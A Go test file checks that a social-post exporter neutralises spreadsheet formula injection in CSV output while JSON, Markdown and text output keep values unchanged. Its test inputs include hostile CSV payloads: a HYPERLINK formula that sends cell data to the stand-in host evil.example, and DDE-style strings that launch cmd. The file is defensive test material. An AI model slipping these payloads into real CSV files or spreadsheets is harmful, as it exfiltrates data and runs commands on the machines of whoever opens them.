package social

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

func TestCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{
		`=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"  =1+1",
	}
	for _, s := range evil {
		if got := csvCell(s); got != "'"+s {
			t.Errorf("csvCell(%q) = %q, want a leading quote", s, got)
		}
	}
	for _, s := range []string{"Plain title", "", "#ManagingUp", "Say \"no\" = fine", "1,200 readers", "https://example.com/a"} {
		if got := csvCell(s); got != s {
			t.Errorf("csvCell(%q) = %q, want it unchanged", s, got)
		}
	}

	// Through Export: every column, the CSV neutralised, JSON, Markdown and
	// text exact.
	posts := feedPosts(t)
	p := &posts[0]
	p.Title, p.Slug, p.URL, p.Hook, p.Text = evil[0], "-slug", "=URL()", evil[1], evil[2]+"\nmore"
	p.Hashtags = []string{"@tag"}
	p.Card.URL, p.Card.Alt = "+card", evil[3]
	var c bytes.Buffer
	if err := Export(&c, posts, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(c.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for k, cell := range rows[1] {
		if t0 := strings.TrimLeft(cell, " "); t0 != "" && strings.ContainsRune(formulaStarts, rune(t0[0])) {
			t.Errorf("column %s starts a formula: %q", Columns()[k], cell)
		}
	}
	if rows[1][2] != "'"+evil[0] {
		t.Errorf("title cell = %q", rows[1][2])
	}
	var j bytes.Buffer
	if err := Export(&j, posts, "json"); err != nil {
		t.Fatal(err)
	}
	var recs []Record
	if err := json.Unmarshal(j.Bytes(), &recs); err != nil {
		t.Fatal(err)
	}
	if recs[0].Title != evil[0] || recs[0].Hook != evil[1] || recs[0].ImageAlt != evil[3] {
		t.Errorf("JSON changed: %+v", recs[0])
	}
	for _, format := range []string{"md", "text"} {
		var b bytes.Buffer
		if err := Export(&b, posts, format); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), evil[0]) || strings.Contains(b.String(), "'"+evil[0]) {
			t.Errorf("%s export changed the title", format)
		}
	}
}
